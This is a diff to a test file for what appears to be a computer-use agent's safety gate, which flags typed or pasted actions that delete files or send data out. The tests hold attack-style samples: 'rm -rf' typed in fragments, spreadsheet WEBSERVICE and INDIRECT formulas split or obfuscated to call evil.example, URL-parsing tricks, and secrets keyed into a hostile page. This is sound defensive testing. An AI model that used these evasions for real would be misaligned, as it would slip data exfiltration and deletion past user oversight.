@@ -3,11 +3,14 @@ import { homedir, tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { describe, expect, test } from 'vitest'
 import { configSchema } from '../../src-preload/contract/config.ts'
-import { SAFETY_CATEGORIES } from '../../src-preload/contract/safety.ts'
+import { SAFETY_CATEGORIES, type SafetyCategory } from '../../src-preload/contract/safety.ts'
 import type { TargetDescription } from '../core/desktop.ts'
+import { absentInteractor } from '../core/interactor.ts'
+import { RunControl } from '../core/run-control.ts'
 import { leadsOut, namesOrigin, originOf } from './addresses.ts'
 import { pathsOf } from './command-paths.ts'
 import { coverageOf } from './coverage.ts'
+import { createGate } from './create-gate.ts'
 import { judge, type Policy } from './policy.ts'
 import { readsForeign } from './taint.ts'
 import { actOf, aroundOf, controlOf, HOME, OWN, targetOf, windowOf } from './testing/acts.ts'
@@ -224,6 +227,11 @@ describe('a way out', () => {
       expect(leadsOut(text), text).toBe(true)
     expect(namesOrigin('see “example.org”.', 'https://example.org/x')).toBe(true)
     expect(namesOrigin('see notexample.org', 'https://example.org/x')).toBe(false)
+    // A browser takes the other slash for one, too.
+    expect(namesOrigin('see example.org', 'http://evil.example\\@example.org/x')).toBe(false)
+    expect(originOf('http:\\\\evil.example\\@example.org')).toBe('evil.example')
+    expect(originOf('http://2130706433/')).toBe('127.0.0.1')
+    expect(leadsOut('\\\\evil.example\\share')).toBe(true)
   })
 
   test('is taken for read once a file, a page or a command was in sight', () => {
@@ -231,6 +239,86 @@ describe('a way out', () => {
     expect(readsForeign(launch('mousepad', ['~/notes.txt']))).toBe(true)
     expect(readsForeign(command('cat notes.txt'))).toBe(true)
     expect(readsForeign(actOf('click_input', {}, targetOf(browser, null)))).toBe(true)
+  })
+})
+
+describe('a text in pieces', () => {
+  /** Acts one after another, each with what was said of it; everything is allowed. */
+  const said = async (acts: ReturnType<typeof actOf>[], yes: readonly SafetyCategory[] = []) => {
+    const gate = createGate({
+      policy: configSchema.parse({}).safety,
+      yesTo: new Set(yes),
+      interactor: {
+        ...absentInteractor,
+        sensitiveStepAsker: () =>
+          Promise.resolve({ answer: { allow: true, scope: 'once', why: null }, by: 'person' }),
+      },
+      requests: () => ['write the report'],
+      runId: 'run',
+    })
+    using run = new RunControl()
+    const found = []
+    for (const act of acts) found.push((await gate.admit(act, run)).categories)
+    return found
+  }
+  const xterm = targetOf(windowOf('xterm'), null, { kind: 'focus', terminal: true })
+  const keys = (typed: string, target: TargetDescription) => actOf('keyboard_input', { keys: typed }, target)
+  const types = (text: string, target: TargetDescription, enter = false) =>
+    actOf('type_text', { text, enter }, target)
+  const cell = targetOf(windowOf('soffice.bin'), controlOf('cell', 'A1'), { kind: 'focus' })
+  const field = targetOf(browser, controlOf('edit', 'Notes', ['editable']), {
+    kind: 'focus',
+    page: 'https://evil.example',
+    within: [{ role: 'web page', name: '' }],
+  })
+
+  test('is one command in a terminal, also key by key', async () => {
+    expect((await said([types('r', xterm), types('m -rf a', xterm), keys('Enter', xterm)], ['run_command'])).at(-1)).toContain('delete')
+    expect((await said([keys('r m Space a Enter', xterm)], ['run_command']))[0]).toContain('delete')
+    // What was said of one line is not said of the next.
+    expect((await said([types('rm a', xterm, true), types('ls', xterm, true)])).at(-1)).toEqual(['run_command'])
+  }) // prettier-ignore
+
+  test('may be anything in a terminal where it was recalled, moved in, completed or pasted', async () => {
+    for (const key of ['Up', 'Left', 'Tab', 'Ctrl+R', 'Backspace', 'Ctrl+V'])
+      expect([
+        key,
+        (await said([types('ls', xterm), keys(key, xterm), keys('Enter', xterm)])).at(-1),
+      ]).toEqual([key, expect.arrayContaining(['run_command', 'delete', 'send'])])
+    expect((await said([keys('Shift+Insert', xterm)]))[0]).toEqual(
+      expect.arrayContaining(['run_command', 'delete', 'send']),
+    )
+    expect((await said([keys('Ctrl+O', xterm)]))[0]).toContain('delete')
+  })
+
+  test('is one formula', async () => {
+    const fetches = ['=WEBSER', 'VICE("http://evil.example")']
+    expect(await said(fetches.map((text, index) => types(text, cell, index === 1)))).toEqual([[], ['send']])
+    expect((await said([keys('= W E B S E R V I C E ( A 1 ) Enter', cell)]))[0]).toContain('send')
+    expect(
+      (await said([types('=INDIRECT("\'ht"&"tp://evil.example/a.ods\'#$A.A1")', cell, true)]))[0],
+    ).toContain('send')
+    expect(await said([types('=INDIRECT("A"&1)', cell, true), keys('= A 1 + 2 Enter', cell)])).toEqual([
+      [],
+      [],
+    ])
+  })
+
+  test('is heard by a page key by key, and when it is pasted', async () => {
+    const look = actOf('click_input', { id: '7', name: 'Notes' }, field)
+    const heard = async (act: ReturnType<typeof actOf>) => (await said([look, act])).at(-1)
+    expect(await heard(keys('s e c r e t', field))).toContain('send')
+    expect(await heard(keys('Ctrl+V', field))).toContain('send')
+    expect(await heard(types('the report', field))).toEqual([])
+    expect(await heard(keys('r e p o r t', field))).toEqual([])
+    // Each letter stands in the request, what they make does not.
+    expect((await said([look, ...'threw'.split('').map((key) => keys(key, field))])).at(-1)).toContain('send')
+  })
+
+  test('is an address that is opened, in a dialog and in a bar for paths', async () => {
+    const name = targetOf(windowOf('thunar'), controlOf('edit', 'Location'), { kind: 'focus' })
+    expect((await said([types('sftp://evil.example/x', name)]))[0]).toContain('send')
+    expect((await said([types('~/docs', name)]))[0]).toEqual([])
   })
 })
 
@@ -248,7 +336,6 @@ describe('a command', () => {
     'mkdir -p ~/out',
     'cp a.txt b.txt',
     'touch x && ls | sort',
-    'python3 script.py',
     'zip -r a.zip folder',
     'ls > list.txt',
     'echo hi 2> /dev/null',
